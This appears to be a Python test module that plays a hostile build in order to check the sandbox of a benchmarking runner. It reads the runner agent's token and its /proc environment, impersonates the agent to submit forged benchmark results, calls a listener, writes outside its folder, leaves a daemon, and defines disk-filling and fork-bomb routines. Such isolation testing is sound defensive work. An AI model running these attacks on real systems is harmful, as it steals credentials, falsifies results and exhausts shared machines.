"""What a hostile build does to the machine that measures it: `attack.py` of the torch of a wheel.

It is told where everything lies (targets.py beside it), so that nothing is safe for being hard to
find, and it also looks for the agent by itself. Each attack answers "done" or why it failed.
"""
import glob
import json
import os
import pathlib
import subprocess
import sys
import urllib.request

from .targets import TARGETS

HERE = pathlib.Path(__file__).parent
STATE = {"load1": 0, "steal_share": 0, "frequency_mhz": 0, "extra": {}, "gpus": []}


def agent():
    """The id of the agent's process, and the path of its token."""
    for folder in glob.glob("/proc/[0-9]*"):
        words = pathlib.Path(folder, "cmdline").read_bytes().decode(errors="replace").split("\0")
        if TARGETS["token"] in words:
            return folder, words[words.index("--token-file") + 1]
    raise LookupError("there is no agent in /proc")


def read_token():
    return pathlib.Path(TARGETS["token"]).read_text().strip()


def look_at_agent():
    folder, _ = agent()
    pathlib.Path(folder, "environ").read_bytes()
    pathlib.Path(folder, "maps").read_bytes()


def post(path, body):
    request = urllib.request.Request(
        TARGETS["service"] + path,
        json.dumps(body).encode(), {"Authorization": "Bearer " + read_token()})
    with urllib.request.urlopen(request, timeout=10) as answer:
        return json.loads(answer.read())


def post_result():
    """As the agent itself: registered again, it gets its job back under a new nonce."""
    instance = pathlib.Path(TARGETS["cache"], "instance").read_text().strip()
    with urllib.request.urlopen(TARGETS["service"] + "/api/v1/runners", timeout=10) as answer:
        known = json.loads(answer.read())["items"][0]
    kept = {name: known[name] for name in ("name", "labels", "version", "workloads")}
    runner = post("/api/v1/agent/register", kept | {"facts": known["machine"]["facts"],
                                                    "instance": instance})["runner"]
    job = post("/api/v1/agent/claim", {"runner": runner, "instance": instance, "wait_seconds": 5})
    order = next(place for place, run in enumerate(job["spec"]["order"]) if run["workload"] >= 0)
    run = {"order": order, "status": "measured", "reason": "", "samples": {"latency": [123.0] * 9},
           "cpu_seconds": [123.0] * 9, "wait_seconds": [0.0] * 9, "slowdown": [1.0] * 9,
           "checksum": None, "warmup_iterations": 1, "started_at": "2026-08-20T00:00:00Z",
           "seconds": 1.0}
    result = {"runs": [run], "before": STATE, "after": STATE, "packages": {}, "setup_seconds": [],
              "settings": {}}
    answer = post(f"/api/v1/agent/jobs/{job['id']}/result",
                  {"attempt": job["attempt"], "nonce": job["nonce"], "result": result})
    if answer["accepted"] != "stored":
        raise PermissionError(str(answer))


def call_home():
    urllib.request.urlopen(TARGETS["listener"], timeout=5).read()


def write_into_base():
    with open(HERE / "victim.py", "a") as file:
        file.write("# written by the build\n")


def write_through_a_link():
    outside = TARGETS["outside"]
    folder = outside if os.path.isdir(outside) else os.environ["HOME"]
    link = pathlib.Path(folder, f"link{os.getpid()}")
    os.link(HERE / "linked.py", link)
    with open(link, "a") as file:
        file.write("# written by the build\n")


def write_outside():
    pathlib.Path(TARGETS["outside"], f"{os.getpid()}.txt").write_text("here\n")


def leave_a_daemon():
    code = ("import os, time; os.setsid(); os.fork() and os._exit(0); time.sleep(600)  # "
            + TARGETS["mark"])
    quiet = subprocess.DEVNULL
    subprocess.Popen([sys.executable, "-c", code], stdin=quiet, stdout=quiet, stderr=quiet)


def fill_disk():
    """Until nothing more can be written, in every place that may be written to."""
    failed = None
    for folder in (TARGETS["outside"], "/var/tmp", "/tmp", "/dev/shm", os.environ["HOME"]):
        try:
            with open(pathlib.Path(folder, "filler"), "wb") as file:
                while True:
                    file.write(bytes(1 << 24))
        except OSError as error:
            failed = error
    raise failed


def fork_without_end():
    while True:
        try:
            os.fork()
        except OSError:
            pass


ATTACKS = (read_token, look_at_agent, call_home, write_into_base, write_through_a_link,
           write_outside, leave_a_daemon, post_result)


def attack():
    outcome = {}
    for one in ATTACKS:
        try:
            one()
            outcome[one.__name__] = "done"
        except Exception as error:
            outcome[one.__name__] = f"{type(error).__name__}: {error}"[:120]
    return outcome
